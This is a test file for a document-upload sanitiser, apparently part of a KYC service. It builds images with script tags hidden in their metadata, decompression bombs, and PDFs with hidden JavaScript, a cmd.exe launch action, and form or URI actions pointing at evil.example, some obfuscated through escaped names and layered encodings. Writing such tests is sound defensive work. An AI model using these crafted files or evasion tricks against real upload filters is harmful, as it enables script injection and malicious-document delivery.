/** What a browser or a viewer might run from a picture of a document, tried against what is taken in. */

import { afterAll, describe, expect, test } from "bun:test";
import { deflateSync } from "node:zlib";
import { aUser } from "@evx/accounts/testing";
import { testDatabase } from "@evx/db/testing";
import { refusalCode } from "@evx/kernel/testing";
import { mediaOf } from "./media.ts";
import { isStill } from "./papers.ts";
import { rewritten } from "./pictures.ts";
import { asPerson, testKyc } from "./testing.ts";

const t = await testDatabase();
afterAll(() => t.close());
const kyc = testKyc(t);

const html = "<script>alert(document.domain)</script>";
const text = (content: string) => new Uint8Array(Buffer.from(content, "latin1"));
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

const chunk = (name: string, content: Uint8Array): Uint8Array => {
  const body = joined(text(name), content);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(content.length, 0);
  out.set(body, 4);
  out.writeUInt32BE(Bun.hash.crc32(body), body.length + 4);
  return new Uint8Array(out);
};
const pngOf = (width: number, height: number, ...extra: Uint8Array[]): Uint8Array => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const lines = deflateSync(Buffer.alloc(Math.min(1_000, height * (1 + width * 3))));
  return joined(
    text("\x89PNG\r\n\x1a\n"),
    chunk("IHDR", new Uint8Array(head)),
    ...extra,
    chunk("IDAT", new Uint8Array(lines)),
    chunk("IEND", new Uint8Array()),
  );
};
const segment = (mark: number, content: Uint8Array): Uint8Array =>
  joined(Uint8Array.of(0xff, mark, (content.length + 2) >> 8, (content.length + 2) & 255), content);
const jpegOf = (width: number, height: number, ...extra: Uint8Array[]): Uint8Array =>
  joined(
    Uint8Array.of(0xff, 0xd8),
    ...extra,
    segment(0xdb, new Uint8Array(65)),
    segment(0xc0, Uint8Array.of(8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0)),
    segment(0xda, Uint8Array.of(1, 1, 0, 0, 63, 0)),
    Uint8Array.of(1, 2, 0xff, 0, 3),
    Uint8Array.of(0xff, 0xd9),
  );
const webpOf = (width: number, height: number, ...extra: Uint8Array[]): Uint8Array => {
  const bits = ((width - 1) | ((height - 1) << 14)) >>> 0;
  const lossless = Buffer.alloc(80);
  lossless[0] = 0x2f;
  lossless.writeUInt32LE(bits, 1);
  const part = (name: string, content: Uint8Array) => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(content.length);
    return joined(text(name), length, content, new Uint8Array(content.length % 2));
  };
  const body = joined(part("VP8L", new Uint8Array(lossless)), ...extra.map((one) => part("XMP ", one)));
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length + 4);
  return joined(text("RIFF"), size, text("WEBP"), body);
};
const pdfOf = (...objects: string[]) =>
  text(
    `%PDF-1.7\n${objects.map((one, at) => `${at + 1} 0 obj\n${one}\nendobj\n`).join("")}trailer <</Size 9 /Root 1 0 R>>\n%%EOF\n`,
  );
const hiddenScript = "1 0 <</S /JavaScript /JS (app.alert(1))>>";
/** Rows of four bytes, each byte but a row's first as its difference to the one before: what viewers put back. */
const asDifferences = (plain: Uint8Array): Uint8Array =>
  Uint8Array.from({ length: Math.ceil(plain.length / 4) * 5 }, (_, at) => {
    const [row, column] = [Math.floor(at / 5), (at % 5) - 1];
    if (column < 0) return 1;
    const here = row * 4 + column;
    return (plain[here] ?? 0) - (column > 0 ? (plain[here - 1] ?? 0) : 0);
  });
const asDigits = (packed: Uint8Array): Uint8Array => text(`${packed.toHex()}>`);
const pack = (bytes: Uint8Array): Uint8Array => new Uint8Array(deflateSync(bytes));

/** A paper whose objects lie packed; `within` its dictionary, `after` it. */
const packedPdf = (
  inside: string,
  { type = "/Type /ObjStm", within = "", after = "", by = pack }: Partial<Packing> = {},
) => {
  const packed = by(text(inside));
  const words = `${type} ${within} /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}`;
  return joined(
    text(`%PDF-1.7\n1 0 obj\n<<${words}>>${after}\nstream\n`),
    packed,
    text("\nendstream\nendobj\n%%EOF\n"),
  );
};
type Packing = { type: string; within: string; after: string; by: (plain: Uint8Array) => Uint8Array };

const has = (bytes: Uint8Array, what: string) => Buffer.from(bytes).includes(what);

const upload = async (content: Uint8Array) => {
  const person = await aUser(t, { role: "buyer", kycStatus: "none" });
  const call = asPerson(t, kyc, person);
  const stream = new Blob([new Uint8Array(content)]).stream() as ReadableStream<Uint8Array>;
  const { document } = await call.kyc.upload({ content: stream });
  const answer = (await call.kyc.document({ id: document.id })) as { content: Uint8Array };
  return answer.content;
};

describe("a picture that is a page as well", () => {
  const hidden: [string, Uint8Array][] = [
    ["in a comment of a PNG", pngOf(4, 4, chunk("tEXt", text(`Comment\0${html}`)))],
    ["in a comment of a JPEG", jpegOf(4, 4, segment(0xfe, text(html)))],
    ["in the EXIF of a JPEG", jpegOf(4, 4, segment(0xe1, text(`Exif\0\0${html}`)))],
    ["in the XMP of a WebP", webpOf(4, 4, text(html))],
    ["after the end of a PNG", joined(pngOf(4, 4), text(html), chunk("IEND", new Uint8Array()))],
    ["after the end of a JPEG", joined(jpegOf(4, 4), text(html), Uint8Array.of(0xff, 0xd9))],
  ];
  for (const [where, file] of hidden)
    test(`${where} is stored without the page; by its first bytes and its end it would pass`, async () => {
      expect(mediaOf(file)).not.toBeNull();
      expect(has(file, "<script>")).toBe(true);
      const stored = await upload(file);
      expect(has(stored, "<script>")).toBe(false);
      expect(mediaOf(stored)).toBe(mediaOf(file));
    });

  test("a clean picture stays as it was, byte for byte", () => {
    expect(rewritten["image/png"](pngOf(4, 4))).toEqual(pngOf(4, 4));
    expect(rewritten["image/jpeg"](jpegOf(4, 4))).toEqual(jpegOf(4, 4));
    expect(rewritten["image/webp"](webpOf(4, 4))).toEqual(webpOf(4, 4));
  });
});

describe("a small file that unfolds to a large one", () => {
  for (const [what, file] of [
    ["a PNG of 50,000 × 50,000", pngOf(50_000, 50_000)],
    ["a PNG of 30,000 empty parts", pngOf(4, 4, ...Array(30_000).fill(chunk("IDAT", new Uint8Array())))],
    ["a JPEG of 65,535 × 65,535", jpegOf(65_535, 65_535)],
    ["a WebP of 16,384 × 16,384", webpOf(16_384, 16_384)],
  ] as const)
    test(`${what} is refused`, async () => {
      expect(mediaOf(file)).not.toBeNull();
      expect(await refusalCode(upload(file))).toBe("document_unsafe");
    });

  test("a PDF whose packed objects fill a memory is refused", () => {
    expect(isStill(packedPdf("0 0 <<>>".padEnd(200_000_000, " ")))).toBe(false);
  });
});

test("what is made to be read for long is read in no time: twice as much takes about twice as long", () => {
  const took = (unit: string, size: number): number => {
    const file = new TextEncoder().encode(`%PDF-1.7\n${unit.repeat(size / unit.length)}\n%%EOF`);
    const began = performance.now();
    isStill(file);
    return performance.now() - began;
  };
  const units = [
    "<<",
    "<<>>   ",
    "1 0 obj<</Type",
    ">>stream\n",
    "stream\nx\x9c",
    "/AA %\n",
    "/JS ",
    "/First 1 ",
    "<</Type /ObjStm /Fl>>stream\n",
    "/AA 1",
    "/OpenAction ",
    "#4",
  ];
  for (const unit of units) {
    took(unit, 100_000);
    expect([unit, took(unit, 4_000_000) < 2_000]).toEqual([unit, true]);
  }
  // The pattern that looked for whole dictionaries: a hundredth of the size takes as long.
  const text = "<<".repeat(20_000);
  const began = performance.now();
  for (const _ of text.matchAll(/<<([\s\S]{0,2000}?)>>\s*stream\r?\n/g));
  expect(performance.now() - began).toBeGreaterThan(took("<<", 40_000));
});

describe("a PDF", () => {
  const active: [string, Uint8Array][] = [
    ["runs a script when it is opened", pdfOf("<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>")],
    ["hides the name of its script", pdfOf("<</S /J#61vaScript /J#53 (app.alert(1))>>")],
    ["starts a program", pdfOf("<</A <</S /Launch /F (cmd.exe)>>>>")],
    ["carries another file", pdfOf("<</Names <</EmbeddedFiles 3 0 R>>>>")],
    ["sends what is typed", pdfOf("<</S /SubmitForm /F (http://evil.example)>>")],
    ["acts when it is opened", pdfOf("<</OpenAction 3 0 R>>")],
    ["is locked, so that nobody can look", pdfOf("<</Encrypt 4 0 R>>")],
    ["packs its script away", packedPdf(hiddenScript)],
    ["does so behind a comment", packedPdf(hiddenScript, { after: "%\n" })],
    ["does so in a dictionary that seems to end", packedPdf(hiddenScript, { within: "/X (>>\nstream\n)" })],
    [
      "does so in a dictionary of many words",
      packedPdf(hiddenScript, { within: `/X (${"y".repeat(4_000)})` }),
    ],
    ["says nothing of what its stream is", packedPdf(hiddenScript, { type: "" })],
    ["packs its script away twice", packedPdf(hiddenScript, { by: (plain) => pack(pack(plain)) })],
    [
      "packs it away by differences",
      packedPdf(hiddenScript, {
        within: "/DecodeParms <</Predictor 12 /Columns 4>>",
        by: (plain) => pack(asDifferences(plain)),
      }),
    ],
    [
      "packs it away in digits",
      packedPdf(hiddenScript, { within: "/F [/ASCIIHexDecode]", by: (plain) => asDigits(pack(plain)) }),
    ],
    [
      "acts when it is opened, after a zero byte",
      pdfOf("<</OpenAction\0<</S /URI /URI (http://evil.example)>>>>"),
    ],
    ["acts on a page, after a comment", pdfOf("<</AA %\n<</O <</S /URI /URI (http://evil.example)>>>>>>")],
  ];
  for (const [what, file] of active)
    test(`that ${what} is refused`, async () => {
      expect(mediaOf(file)).toBe("application/pdf");
      expect(await refusalCode(upload(file))).toBe("document_unsafe");
    });

  test("that only shows pages is kept as it is", async () => {
    const still = pdfOf(
      "<</Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit]>>",
      "<</Type /Pages /Kids []>>",
    );
    expect(await upload(still)).toEqual(still);
    expect(isStill(packedPdf("1 0 <</Type /Page>>"))).toBe(true);
    expect(isStill(pdfOf("<</Type /Outlines /First 3 0 R /Last 3 0 R>>"))).toBe(true);
  });

  test("with a large picture is not refused for what its bytes happen to spell", () => {
    const noise = Buffer.from(crypto.getRandomValues(new Uint8Array(60_000))).toString("latin1");
    const spelt = "/JSx\xff/JS\xfe/AA\xfd/JS7 ";
    const picture = `<</Subtype /Image /Filter /DCTDecode>>\nstream\n${spelt}${noise}\nendstream`;
    expect(isStill(pdfOf(picture))).toBe(true);
    const drawn = deflateSync(Buffer.alloc(80_000_000, 255)).toString("latin1");
    expect(isStill(pdfOf(`<</Subtype /Image /Filter /FlateDecode>>\nstream\n${drawn}\nendstream`))).toBe(
      true,
    );
  });
});
